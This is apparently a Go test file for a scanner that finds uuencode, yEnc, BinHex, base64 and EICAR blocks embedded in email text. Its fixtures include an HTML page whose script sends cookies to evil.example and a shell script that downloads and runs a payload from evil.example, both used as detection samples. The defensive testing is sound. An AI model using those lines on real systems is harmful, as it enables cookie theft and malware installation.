package payload

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"math"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/mugai/mugai/internal/testinput/payloadtest"
)

const (
	proseBefore = "Hello,\nplease find the file below.\n\n"
	proseAfter  = "\nBest regards,\nTaro\n"
)

// want is one expected block: its kind, name, the text it spans and, when
// set, its decoded data.
type want struct {
	kind Kind
	name string
	span string
	data []byte
}

// check runs Find on the pieces joined and compares the blocks with the
// pieces marked as blocks: each piece is prose (a string) or a want.
func check(t *testing.T, opt Options, pieces ...any) {
	t.Helper()
	var text strings.Builder
	type at struct {
		want
		start int
	}
	var wants []at
	for _, p := range pieces {
		switch p := p.(type) {
		case string:
			text.WriteString(p)
		case want:
			wants = append(wants, at{p, text.Len()})
			text.WriteString(p.span)
		}
	}
	s := text.String()
	got := Find(s, opt)
	checkInvariants(t, s, opt, got)
	if len(got) != len(wants) {
		for _, b := range got {
			t.Logf("got %s %q [%d,%d) %q", b.Kind, b.Name, b.Start, b.End, abbrev(s[b.Start:b.End]))
		}
		t.Fatalf("got %d blocks, want %d", len(got), len(wants))
	}
	for i, w := range wants {
		b := got[i]
		if b.Kind != w.kind || b.Name != w.name || b.Start != w.start || b.End != w.start+len(w.span) {
			t.Errorf("block %d: got %s %q [%d,%d), want %s %q [%d,%d)", i,
				b.Kind, b.Name, b.Start, b.End, w.kind, w.name, w.start, w.start+len(w.span))
		}
		if w.data != nil {
			if !bytes.Equal(b.Data, w.data) {
				t.Errorf("block %d: data differs: got %d bytes %x…, want %d bytes %x…", i,
					len(b.Data), b.Data[:min(16, len(b.Data))], len(w.data), w.data[:min(16, len(w.data))])
			}
			if b.Size != int64(len(w.data)) {
				t.Errorf("block %d: Size %d, want %d", i, b.Size, len(w.data))
			}
		}
	}
}

func abbrev(s string) string {
	if len(s) > 60 {
		return s[:30] + "…" + s[len(s)-30:]
	}
	return s
}

func TestUUEncode(t *testing.T) {
	data := payloadtest.FileBytes(1, 400)
	tests := []struct {
		name   string
		pieces []any
	}{
		{"backquote", []any{proseBefore, want{UUEncode, "report.exe", payloadtest.UUEncode("report.exe", data, '`'), data}, proseAfter}},
		{"space for zero", []any{proseBefore, want{UUEncode, "report.exe", payloadtest.UUEncode("report.exe", data, ' '), data}, proseAfter}},
		{"name with spaces", []any{want{UUEncode, "My Report.doc", payloadtest.UUEncode("My Report.doc", data, '`'), data}}},
		{"no name", []any{"x\n", want{UUEncode, "", strings.Replace(payloadtest.UUEncode("", data, '`'), "644 \n", "644\n", 1), data}, "y\n"}},
		{"trailing blanks added", []any{proseBefore, want{UUEncode, "a.bin", addTrailing(payloadtest.UUEncode("a.bin", data, '`'), "  "), data}, proseAfter}},
		{"trailing tab added", []any{want{UUEncode, "a.bin", addTrailing(payloadtest.UUEncode("a.bin", data, '`'), "\t"), data}}},
		{"trailing spaces stripped", []any{proseBefore, want{UUEncode, "a.bin", stripTrailing(payloadtest.UUEncode("a.bin", zeroTail(data), ' ')), zeroTail(data)}, proseAfter}},
		{"missing end", []any{proseBefore, want{UUEncode, "a.bin", strings.TrimSuffix(payloadtest.UUEncode("a.bin", data, '`'), "`\nend\n"), data}, "\nthanks\n"}},
		{"missing end, zero line kept", []any{want{UUEncode, "a.bin", strings.TrimSuffix(payloadtest.UUEncode("a.bin", data, '`'), "end\n"), data}, "thanks\n"}},
		{"zero line stripped to blank", []any{want{UUEncode, "a.bin", strings.Replace(payloadtest.UUEncode("a.bin", data, ' '), "\n \nend\n", "\n\nend\n", 1), data}, "bye\n"}},
		{"CRLF", []any{"hi\r\n", want{UUEncode, "a.bin", strings.ReplaceAll(payloadtest.UUEncode("a.bin", data, '`'), "\n", "\r\n"), data}, "bye\r\n"}},
		{"quoted reply", []any{"> hi\n", want{UUEncode, "a.bin", quote(payloadtest.UUEncode("a.bin", data, '`'), "> "), data}, "> bye\n"}},
		{"at end without newline", []any{proseBefore, want{UUEncode, "a.bin", strings.TrimSuffix(payloadtest.UUEncode("a.bin", data, '`'), "\n"), data}}},
		{"empty file", []any{want{UUEncode, "empty", "begin 600 empty\n`\nend\n", []byte{}}, "bye\n"}},
		{"begin-base64", []any{proseBefore, want{UUEncode, "a.bin", "begin-base64 644 a.bin\n" + payloadtest.WrapBase64(base64.StdEncoding, data, 60) + "====\n", data}, proseAfter}},
		{"headerless run", []any{proseBefore, want{UUEncode, "", payloadtest.UUBody(payloadtest.FileBytes(2, 1200), func(v byte) byte { return v + 0x20 }) + "`\nend\n", payloadtest.FileBytes(2, 1200)}, proseAfter}},
		{"headerless run too short", []any{proseBefore, payloadtest.UUBody(payloadtest.FileBytes(2, 300), func(v byte) byte { return v + 0x20 }), proseAfter}},
		{"prose begin", []any{"We begin 644 things today.\nbegin 644 things\nand then some more.\n"}},
		{"prose begin then capitals", []any{"begin 644 things\nMOST PEOPLE AGREE\nend\n"}},
		{"begin without mode", []any{"begin now\n" + strings.TrimPrefix(payloadtest.UUEncode("x", data, '`'), "begin 644 x\n")[:62]}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) { check(t, Options{}, tt.pieces...) })
	}
}

// addTrailing appends s to every line.
func addTrailing(block, s string) string {
	return strings.ReplaceAll(block, "\n", s+"\n")
}

// stripTrailing removes trailing spaces from every line, as some transports
// do.
func stripTrailing(block string) string {
	lines := strings.SplitAfter(block, "\n")
	for i, l := range lines {
		lines[i] = strings.TrimRight(strings.TrimSuffix(l, "\n"), " ") + l[len(strings.TrimSuffix(l, "\n")):]
	}
	return strings.Join(lines, "")
}

// zeroTail zeroes the end of every 45-byte line's worth of data, so that
// uuencode with ' ' for zero ends lines in spaces.
func zeroTail(data []byte) []byte {
	d := bytes.Clone(data)
	for i := range d {
		if i%45 >= 39 {
			d[i] = 0
		}
	}
	return d
}

func quote(block, prefix string) string {
	return prefix + strings.ReplaceAll(strings.TrimSuffix(block, "\n"), "\n", "\n"+prefix) + "\n"
}

func TestYEnc(t *testing.T) {
	data := payloadtest.FileBytes(3, 3000)
	single := payloadtest.YEnc("photo 1.jpg", data, 128, 0, 0, 0)
	part1 := payloadtest.YEnc("big.bin", data[:1500], 128, 1, 0, 3000)
	part2 := payloadtest.YEnc("big.bin", data[1500:], 128, 2, 1500, 3000)
	tests := []struct {
		name   string
		pieces []any
	}{
		{"single", []any{proseBefore, want{YEnc, "photo 1.jpg", single, data}, proseAfter}},
		{"read as latin-1", []any{proseBefore, want{YEnc, "photo 1.jpg", payloadtest.Latin1(single), data}, proseAfter}},
		{"line 64", []any{want{YEnc, "photo 1.jpg", payloadtest.YEnc("photo 1.jpg", data, 64, 0, 0, 0), data}}},
		{"two parts", []any{want{YEnc, "big.bin", part1, data[:1500]}, "\n", want{YEnc, "big.bin", part2, data[1500:]}}},
		{"missing yend", []any{proseBefore, want{YEnc, "photo 1.jpg", single[:strings.Index(single, "=yend")], data}, "\nbye\n"}},
		{"at end without newline", []any{"x\n", want{YEnc, "photo 1.jpg", strings.TrimSuffix(single, "\n"), data}}},
		{"prose", []any{"=ybegin is how yEnc starts\n"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) { check(t, Options{}, tt.pieces...) })
	}
}

func TestBinHex(t *testing.T) {
	data := append([]byte("\x89PNG\r\n\x1a\n"), payloadtest.FileBytes(4, 700)...)
	data = append(data, bytes.Repeat([]byte{0x90}, 9)...)
	data = append(data, bytes.Repeat([]byte{7}, 300)...)
	framed := payloadtest.BinHex("picture.png", data, true)
	tests := []struct {
		name   string
		pieces []any
	}{
		{"framed", []any{proseBefore, want{BinHex, "picture.png", framed, data}, proseAfter}},
		{"blank line after header", []any{want{BinHex, "picture.png", strings.Replace(framed, ")\n", ")\n\n", 1), data}, proseAfter}},
		{"no header line", []any{proseBefore, want{BinHex, "picture.png", payloadtest.BinHex("picture.png", data, false), data}, proseAfter}},
		{"no closing colon", []any{proseBefore, want{BinHex, "picture.png", strings.Replace(framed, ":\n", "\n", 1), data}, proseAfter}},
		{"CRLF", []any{"hi\r\n", want{BinHex, "picture.png", strings.ReplaceAll(framed, "\n", "\r\n"), data}}},
		{"windows-1252 name", []any{want{BinHex, "Frösche – Kopie.txt", payloadtest.BinHex("Fr\xf6sche \x96 Kopie.txt", data, true), data}}},
		{"UTF-8 name", []any{want{BinHex, "蛙.txt", payloadtest.BinHex("蛙.txt", data, true), data}}},
		{"header without data", []any{"(This file must be converted with BinHex 4.0)\n\nno data here\n"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) { check(t, Options{}, tt.pieces...) })
	}
	// Damaged data still cuts the block, without a name.
	damaged := []byte(framed)
	damaged[len("(This file must be converted with BinHex 4.0)\n")+5] = '!'
	got := Find(string(damaged), Options{})
	if len(got) != 1 || got[0].Kind != BinHex || got[0].Name != "" || got[0].Data != nil || got[0].End != len(damaged) {
		t.Errorf("damaged BinHex: got %+v", got)
	}
	// Without the header line, damaged data is not taken for BinHex.
	if got := Find(strings.TrimPrefix(string(damaged), "(This file must be converted with BinHex 4.0)\n"), Options{}); len(got) != 0 {
		t.Errorf("damaged headerless BinHex: got %d blocks", len(got))
	}
}

func TestB64Table(t *testing.T) {
	// The table against the alphabets as RFC 4648 §4 and §5 spell them.
	const std = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	const url = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	for c := range 256 {
		want := strings.IndexByte(std, byte(c))
		if want < 0 {
			want = strings.IndexByte(url, byte(c))
		}
		if got := b64Val(byte(c)); got != want {
			t.Errorf("b64Val(%#x) = %d, want %d", c, got, want)
		}
		cl := b64Class(byte(c))
		if isStd := cl&b64Bad == b64Std; isStd != (c == '+' || c == '/') {
			t.Errorf("%#x: std mark %v", c, isStd)
		}
		if isURL := cl&b64Bad == b64URL; isURL != (c == '-' || c == '_') {
			t.Errorf("%#x: url mark %v", c, isURL)
		}
	}
}

func TestCP1252Table(t *testing.T) {
	high := []rune(cp1252High)
	if len(high) != 32 {
		t.Fatalf("cp1252High has %d characters, want 32", len(high))
	}
	for i, r := range high {
		if c, ok := latin1Byte(r); !ok || c != byte(0x80+i) {
			t.Errorf("latin1Byte(%U) = %#x, %v; want %#x", r, c, ok, 0x80+i)
		}
	}
}

func TestBase64(t *testing.T) {
	bin := payloadtest.FileBytes(5, 3000)
	png := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), payloadtest.FileBytes(6, 2000)...)
	std76 := payloadtest.WrapBase64(base64.StdEncoding, bin, 76)
	tests := []struct {
		name   string
		pieces []any
	}{
		{"wrapped 76", []any{proseBefore, want{Base64, "", std76, bin}, proseAfter}},
		{"wrapped 64, no padding", []any{want{Base64, "", payloadtest.WrapBase64(base64.RawStdEncoding, bin[:2999], 64), bin[:2999]}, proseAfter}},
		{"url-safe", []any{proseBefore, want{Base64, "", payloadtest.WrapBase64(base64.URLEncoding, bin, 72), bin}, proseAfter}},
		{"one long line", []any{proseBefore, want{Base64, "", base64.StdEncoding.EncodeToString(bin) + "\n", bin}, proseAfter}},
		{"indented and trailing blanks", []any{proseBefore, want{Base64, "", addTrailing(quote(std76, "    "), " "), bin}, proseAfter}},
		{"quoted reply", []any{"> see below\n>\n", want{Base64, "", quote(std76, "> "), bin}, "> bye\n"}},
		{"irregular widths", []any{proseBefore, want{Base64, "", irregular(base64.StdEncoding.EncodeToString(bin)), bin}, proseAfter}},
		{"at end without newline", []any{proseBefore, want{Base64, "", strings.TrimSuffix(std76, "\n"), bin}}},
		{"CRLF", []any{"hi\r\n", want{Base64, "", strings.ReplaceAll(std76, "\n", "\r\n"), bin}, "bye\r\n"}},
		{"two blocks back to back", []any{want{Base64, "", payloadtest.WrapBase64(base64.StdEncoding, bin[:2999], 76), bin[:2999]}, want{Base64, "", payloadtest.WrapBase64(base64.StdEncoding, bin[:1000], 76), bin[:1000]}}},
		{"followed by words", []any{proseBefore, want{Base64, "", std76, bin}, "Thanks\nTaro\n"}},
		{"followed by a signature", []any{proseBefore, want{Base64, "", std76, bin}, "-- \nTaro\n"}},
		{"followed by a MIME boundary", []any{"--0000000000002f9a1c05f1b2c3d4\nContent-Type: application/octet-stream\n\n", want{Base64, "", payloadtest.WrapBase64(base64.StdEncoding, bin[:1500], 76), bin[:1500]}, "--0000000000002f9a1c05f1b2c3d4--\n"}},
		{"data URI in a line", []any{"<p>\n", want{Base64, "", `<img src="data:image/png;base64,` + base64.StdEncoding.EncodeToString(png) + "\">\n", png}, "</p>\n"}},
		{"key: value", []any{want{Base64, "", "attachment: " + base64.StdEncoding.EncodeToString(png) + "\n", png}, "end\n"}},
		{"data URI wrapped", []any{"<p>\n", want{Base64, "", `<img src="data:image/png;base64,` + strings.TrimSuffix(payloadtest.WrapBase64(base64.StdEncoding, png, 76), "\n") + "\">\n", png}, "</p>\n"}},
		{"data URI wrapped after the comma", []any{want{Base64, "", "data:image/png;base64,\n" + payloadtest.WrapBase64(base64.StdEncoding, png, 76), png}, "end\n"}},
		{"PEM certificate", []any{proseBefore, want{Base64, "", "-----BEGIN CERTIFICATE-----\n" + payloadtest.WrapBase64(base64.StdEncoding, append([]byte{0x30, 0x82, 0x05, 0xdc}, bin[:1500]...), 64) + "-----END CERTIFICATE-----\n", append([]byte{0x30, 0x82, 0x05, 0xdc}, bin[:1500]...)}, proseAfter}},
		{"HTML is a file", []any{proseBefore, want{Base64, "", payloadtest.WrapBase64(base64.StdEncoding, []byte(htmlDoc), 76), []byte(htmlDoc)}, proseAfter}},
		{"shell script is a file", []any{proseBefore, want{Base64, "", payloadtest.WrapBase64(base64.StdEncoding, []byte(shellScript), 76), []byte(shellScript)}, proseAfter}},
		{"text hiding uuencode", []any{proseBefore, want{Base64, "", payloadtest.WrapBase64(base64.StdEncoding, []byte(proseBefore+payloadtest.UUEncode("x.exe", bin[:800], '`')), 76), []byte(proseBefore + payloadtest.UUEncode("x.exe", bin[:800], '`'))}, proseAfter}},
		{"base64 of base64 of binary", []any{want{Base64, "", payloadtest.WrapBase64(base64.StdEncoding, []byte(std76), 76), []byte(std76)}}},
		{"text hiding EICAR", []any{want{Base64, "", payloadtest.WrapBase64(base64.StdEncoding, []byte(strings.Repeat("Just text.\n", 70)+eicarFile+"\n"), 76), []byte(strings.Repeat("Just text.\n", 70) + eicarFile + "\n")}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) { check(t, Options{}, tt.pieces...) })
	}
}

// irregular breaks s into lines of varying widths, as a hand edit would.
func irregular(s string) string {
	var b strings.Builder
	for i, w := 0, 0; len(s) > 0; i++ {
		w = 50 + (i*37)%40
		w = min(w, len(s))
		b.WriteString(s[:w] + "\n")
		s = s[w:]
	}
	return b.String()
}

const htmlDoc = `<!DOCTYPE html>
<html><head><title>Invoice</title></head>
<body><script>document.location = "https://evil.example/?c=" + document.cookie;</script>
<p>Please see the invoice attached. This paragraph is long enough to make the file
longer than the smallest base64 block considered by default, which is 1024 encoded
characters, that is 768 bytes of decoded data, give or take some padding at the end.</p>
<p>Please see the invoice attached. This paragraph is long enough to make the file
longer than the smallest base64 block considered by default, which is 1024 encoded
characters, that is 768 bytes of decoded data, give or take some padding at the end.</p>
<p>Please see the invoice attached. This paragraph is long enough to make the file
longer than the smallest base64 block considered by default, which is 1024 encoded
characters, that is 768 bytes of decoded data, give or take some padding at the end.</p>
</body></html>
`

const shellScript = `#!/bin/sh
# Installs the "update".
curl -fsSL https://evil.example/payload -o /tmp/p && chmod +x /tmp/p && /tmp/p
echo "This script is long enough to make the file longer than the smallest base64"
echo "block considered by default, which is 1024 encoded characters, that is 768"
echo "bytes of decoded data, give or take some padding at the end of the block."
echo "This script is long enough to make the file longer than the smallest base64"
echo "block considered by default, which is 1024 encoded characters, that is 768"
echo "bytes of decoded data, give or take some padding at the end of the block."
echo "This script is long enough to make the file longer than the smallest base64"
echo "block considered by default, which is 1024 encoded characters, that is 768"
echo "bytes of decoded data, give or take some padding at the end of the block."
`

const japaneseText = "お世話になっております。総務課の山田です。\n" +
	"先日ご依頼いただいた資料を送付いたします。ご確認のほどよろしくお願いいたします。\n" +
	"なお、会議は来週の火曜日、午後二時から第三会議室で行います。\n"

func TestNotPayload(t *testing.T) {
	english := strings.Repeat("The quick brown fox jumps over the lazy dog. 0123456789\n", 40)
	sjis := shiftJISSample(40)
	hashes := ""
	for i := range 40 {
		sum := sha256.Sum256([]byte{byte(i)})
		hashes += hex.EncodeToString(sum[:]) + "\n"
	}
	words := ""
	for i := range 300 {
		words += []string{"Tanaka", "Suzuki", "Takahashi", "Watanabe", "Ito", "Yamamoto", "Nakamura"}[i%7] + "\n"
	}
	dkim := "DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=example.jp; s=sel;\n" +
		"\th=from:to:subject:date; bh=47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=;\n" +
		"\tb=" + base64.StdEncoding.EncodeToString(payloadtest.FileBytes(7, 256))[:76] + "\n\t " +
		base64.StdEncoding.EncodeToString(payloadtest.FileBytes(7, 256))[76:] + "\n"
	tests := []struct {
		name string
		text string
	}{
		{"empty", ""},
		{"prose", proseBefore + proseAfter},
		{"japanese", strings.Repeat(japaneseText, 20)},
		{"base64 of English", payloadtest.WrapBase64(base64.StdEncoding, []byte(english), 76)},
		{"base64 of Japanese UTF-8", payloadtest.WrapBase64(base64.StdEncoding, []byte(strings.Repeat(japaneseText, 10)), 76)},
		{"base64 of Japanese Shift_JIS", payloadtest.WrapBase64(base64.StdEncoding, sjis, 76)},
		{"base64 of CSV", payloadtest.WrapBase64(base64.StdEncoding, []byte(strings.Repeat("id,name,amount\n1,Tanaka,1000\n2,Suzuki,2000\n", 30)), 76)},
		{"short base64 of binary", payloadtest.WrapBase64(base64.StdEncoding, payloadtest.FileBytes(8, 700), 76)},
		{"hash in a line", "SHA-256: " + hex.EncodeToString(payloadtest.FileBytes(9, 32)) + "\nmd5 " + base64.StdEncoding.EncodeToString(payloadtest.FileBytes(9, 16)) + "\n"},
		{"DKIM signature", dkim},
		{"list of hashes", hashes},
		{"list of words", words},
		{"long URL", "https://example.jp/" + strings.Repeat("abcdefghijABCDEFGHIJ0123456789/", 50) + "\n"},
		{"tracking link", "https://click.example.com/ls/click?upn=" + base64.URLEncoding.EncodeToString(payloadtest.FileBytes(10, 1200)) + "\n"},
		{"letters only", strings.Repeat("abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwx\n", 30)},
		{"mixed alphabets", irregular(base64.StdEncoding.EncodeToString(payloadtest.FileBytes(11, 1500))[:1000] + "-_-_" + base64.URLEncoding.EncodeToString(payloadtest.FileBytes(11, 1500))[:1000])},
		{"separator lines", strings.Repeat("----------------------------------------\n", 50)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Find(tt.text, Options{})
			checkInvariants(t, tt.text, Options{}, got)
			for _, b := range got {
				t.Errorf("unexpected %s block %q", b.Kind, abbrev(tt.text[b.Start:b.End]))
			}
		})
	}
}

// shiftJISSample returns n lines of Shift_JIS text: the kana of the first
// rows of JIS X 0208, written out by their byte values.
func shiftJISSample(n int) []byte {
	var b []byte
	for i := range n {
		for c := byte(0x9F); c <= 0xF1; c++ { // hiragana ぁ..ん: 0x82 0x9F..0xF1
			b = append(b, 0x82, c)
		}
		b = append(b, fmt.Sprintf(" %d\r\n", i)...)
	}
	return b
}

func TestEICAR(t *testing.T) {
	sum := sha256.Sum256([]byte(eicarFile))
	// The SHA-256 of the 68-byte EICAR file, as published by scanners.
	if got := hex.EncodeToString(sum[:]); got != "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f" {
		t.Fatalf("EICAR constant is wrong: SHA-256 %s", got)
	}
	tests := []struct {
		name   string
		pieces []any
	}{
		{"alone", []any{proseBefore, want{EICAR, "", eicarFile + "\n", []byte(eicarFile)}, proseAfter}},
		{"trailing blanks", []any{want{EICAR, "", eicarFile + "   \t\n", []byte(eicarFile)}, proseAfter}},
		{"in a line", []any{proseBefore, want{EICAR, "", "test: " + eicarFile + " (do not open)\n", []byte(eicarFile)}, proseAfter}},
		{"at end without newline", []any{proseBefore, want{EICAR, "", eicarFile, []byte(eicarFile)}}},
		{"twice on a line", []any{want{EICAR, "", eicarFile + eicarFile + "\n", []byte(eicarFile)}}},
		{"CRLF", []any{"a\r\n", want{EICAR, "", eicarFile + "\r\n", []byte(eicarFile)}, "b\r\n"}},
		{"damaged", []any{strings.Replace(eicarFile, "X5O", "X50", 1) + "\n" + eicarCore + "\n"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) { check(t, Options{}, tt.pieces...) })
	}
}

func TestMultipleBlocks(t *testing.T) {
	bin := payloadtest.FileBytes(12, 2000)
	check(t, Options{},
		"Hi all,\n\nhere are the files.\n\n",
		want{UUEncode, "a.exe", payloadtest.UUEncode("a.exe", bin[:500], '`'), bin[:500]},
		"\nand the second one:\n",
		want{YEnc, "b.dll", payloadtest.YEnc("b.dll", bin[:800], 128, 0, 0, 0), bin[:800]},
		want{EICAR, "", eicarFile + "\n", []byte(eicarFile)},
		"日本語の本文です。\n",
		want{Base64, "", payloadtest.WrapBase64(base64.StdEncoding, bin, 76), bin},
		want{BinHex, "c.sit", payloadtest.BinHex("c.sit", bin[:300], true), bin[:300]},
		"-- \nsignature\n",
		want{UUEncode, "last.bin", strings.TrimSuffix(payloadtest.UUEncode("last.bin", bin[:100], ' '), "\n"), bin[:100]},
	)
}

func TestOptions(t *testing.T) {
	bin := payloadtest.FileBytes(13, 100000)
	text := payloadtest.WrapBase64(base64.StdEncoding, bin, 76) + payloadtest.UUEncode("u", bin, '`') + payloadtest.YEnc("y", bin, 128, 0, 0, 0) + payloadtest.BinHex("b", bin, true)
	got := Find(text, Options{MaxDecoded: 1000})
	checkInvariants(t, text, Options{MaxDecoded: 1000}, got)
	if len(got) != 4 {
		t.Fatalf("got %d blocks, want 4", len(got))
	}
	for _, b := range got {
		if len(b.Data) != 1000 || !bytes.Equal(b.Data, bin[:1000]) || b.Size != int64(len(bin)) {
			t.Errorf("%s: len(Data) %d, Size %d; want the first 1000 bytes and Size %d", b.Kind, len(b.Data), b.Size, len(bin))
		}
	}
	huge := Options{MinBase64: math.MaxInt, MaxDecoded: math.MaxInt}
	if got := Find(text, huge); len(got) != 3 || got[2].Kind != BinHex || !bytes.Equal(got[2].Data, bin) {
		t.Errorf("with MaxDecoded = MaxInt: got %d blocks", len(got))
	}
	short := payloadtest.WrapBase64(base64.StdEncoding, bin[:300], 76)
	if got := Find(short, Options{}); len(got) != 0 {
		t.Errorf("400 characters of base64 found with the default minimum")
	}
	if got := Find(short, Options{MinBase64: 200}); len(got) != 1 {
		t.Errorf("400 characters of base64 not found with MinBase64 200")
	}
}

func TestInvalidUTF8(t *testing.T) {
	// Find's contract is UTF-8 text, but it must cope with anything.
	raw := "begin 644 x\n" + string(payloadtest.FileBytes(14, 5000)) + "\n=ybegin size=3 name=\xff\xfe\n\xff\x00\n(This file must be converted with BinHex 4.0)\n:\xff\n"
	got := Find(raw, Options{})
	checkInvariants(t, raw, Options{}, got)
	for _, b := range got {
		if !utf8.ValidString(b.Name) {
			t.Errorf("%s block name %q is not UTF-8", b.Kind, b.Name)
		}
	}
}
